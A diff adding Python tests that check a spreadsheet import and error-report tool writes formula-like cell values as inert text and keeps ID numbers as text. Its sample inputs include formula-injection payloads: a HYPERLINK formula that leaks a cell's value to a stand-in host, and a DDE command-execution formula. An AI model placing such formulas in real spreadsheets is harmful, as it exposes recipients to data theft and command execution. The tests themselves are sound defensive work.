@@ -531,3 +531,63 @@ def test_fifty_thousand_rows_fast(tmp_path: Path) -> None:
     # About 0.3 s each on a quiet machine; generous bounds for a busy CI box.
     assert total - read < 3.0, f"validate took {total - read:.2f}s"
     assert total < 6.0, f"read + validate took {total:.2f}s"
+
+
+# ---------------------------------------------------------------- text stays text
+
+FORMULAS = ['=HYPERLINK("http://x/?"&B2,"点击")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+2", "-3+4", "=1+1"]
+
+
+def assert_no_formula(path: Path) -> openpyxl.worksheet.worksheet.Worksheet:
+    book = openpyxl.load_workbook(path)
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for c in row:
+                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
+    return book.worksheets[0]
+
+
+def test_error_report_writes_formula_text_as_text(tmp_path: Path) -> None:
+    p = PEOPLE
+    rows = [
+        ["=HYPERLINK(\"http://x/\",\"表\")", "姓名", "证件号码", "新缴费工资", "生效年月", "备注"],
+        [FORMULAS[0], p[0].name, p[0].id_number, "=1+1", "202503", FORMULAS[1]],
+        [FORMULAS[2], FORMULAS[3], p[1].id_number, 100, "202503", FORMULAS[4]],
+        [None, "x", 4.10102199001011e17, 8000, FORMULAS[5], "http://example.com/"],
+    ]
+    # Text cells holding "=..." (as Excel keeps text typed after an apostrophe), not formulas.
+    from tests.core.hostile_files import row_xml, sheet_xml, write_xlsx
+
+    source = write_xlsx(tmp_path / "in.xlsx", sheet_xml(row_xml(n, r) for n, r in enumerate(rows, 1)))
+    result = import_file(source.read_bytes(), "=evil.xlsx", ENROLLED, DAILY)
+    assert result.error_rows == {2, 3, 4}
+    target = tmp_path / "report.xlsx"
+    write_error_report(result, target)
+    sheet = assert_no_formula(target)
+    values = [list(r) for r in sheet.iter_rows(values_only=True)]
+    assert values[1][0] == '=HYPERLINK("http://x/","表")'
+    assert values[2][0] == FORMULAS[0] and values[2][3] == "=1+1" and values[2][5] == FORMULAS[1]
+    assert values[3][:2] == [FORMULAS[2], FORMULAS[3]] and values[3][5] == FORMULAS[4]
+    assert values[3][3] == 100 and sheet["D4"].data_type == "n"  # amounts stay numbers
+    assert values[4][4] == FORMULAS[5] and values[4][5] == "http://example.com/"
+    for r in range(3, 6):
+        assert sheet.cell(r, 3).data_type == "s"  # the ID column is text
+    assert values[4][2] == "410102199001011000"
+    assert not sheet._hyperlinks
+
+
+def test_template_writes_names_as_text(tmp_path: Path) -> None:
+    people = [Enrolled("E1", FORMULAS[0], "201", PEOPLE[0].id_number, "=U1", "正常缴费", "6000.00")]
+    target = tmp_path / "t.xlsx"
+    write_template(target, "daily", people)
+    sheet = assert_no_formula(target)
+    assert sheet["A2"].value == FORMULAS[0] and sheet["F2"].value == "=U1"
+    assert sheet["C2"].data_type == "s" and sheet["C2"].value == PEOPLE[0].id_number
+
+
+def test_control_characters_in_report(tmp_path: Path) -> None:
+    rows = [HEADER, ["a\x01b\x1f", None, "x\x02y", "8\x0b000", "202503"]]
+    result = import_file(csv_bytes(rows), "a.csv", ENROLLED, DAILY)
+    target = tmp_path / "r.xlsx"
+    write_error_report(result, target)
+    assert_no_formula(target)
